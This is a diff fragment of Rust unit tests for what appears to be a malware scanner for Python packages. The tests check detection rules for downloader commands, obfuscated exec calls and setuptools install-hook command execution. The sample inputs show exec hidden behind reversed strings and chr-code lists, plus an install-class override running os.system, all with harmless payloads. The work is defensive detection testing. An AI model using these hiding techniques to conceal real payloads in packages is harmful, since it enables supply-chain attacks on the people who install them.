+            .find(|f| f.rule == "CMD-DOWNLOADER")
+            .unwrap();
+        assert_eq!(dl.layer, 1);
+        assert_eq!(dl.line, 2);
+        assert!(dl.message.contains("decoded layer 1"));
+    }
+
+    #[test]
+    fn reversed_and_chr_strings_decode() {
+        let s = run("exec('))1(tnirp'[::-1])\n");
+        assert!(rules(&s).contains(&"PY-EXEC-DECODED"));
+        let s = run("exec(''.join(chr(c) for c in [112,114,105,110,116,40,49,41]))\n");
+        assert!(rules(&s).contains(&"PY-EXEC-DECODED"));
+    }
+
+    #[test]
+    fn eval_of_literal_is_not_flagged() {
+        let s = run("x = eval('1+1')\nexec(open('v.py').read())\n");
+        let r = rules(&s);
+        assert!(!r.iter().any(|x| x.starts_with("PY-EXEC")), "{r:?}");
+    }
+
+    #[test]
+    fn cmdclass_methods_are_install_stage() {
+        let s = run(
+            "from setuptools.command.install import install\nimport os\nclass X(install):\n    def run(self):\n        os.system('ls')\n",
+        );
+        let f = s.findings.iter().find(|f| f.rule == "PY-CMD-EXEC").unwrap();
+        assert_eq!(f.stage, Some(Stage::Install));
+        let s = run("import os\ndef f():\n    os.system('ls')\n");
+        let f = s.findings.iter().find(|f| f.rule == "PY-CMD-EXEC").unwrap();
+        assert_eq!(f.stage, Some(Stage::Runtime));
+        let s = run("import os\ndef f():\n    os.system('ls')\nf()\n");
+        let f = s.findings.iter().find(|f| f.rule == "PY-CMD-EXEC").unwrap();
+        assert_eq!(f.stage, Some(Stage::Install));
+    }
+
+    #[test]
+    fn garbage_does_not_panic() {
+        run("\u{0}\u{1}def (((( '''");
+        run(&"(".repeat(5000));
+        run(&format!("x = {}\n", vec!["chr(97)"; 3000].join("+")));
+    }
+}
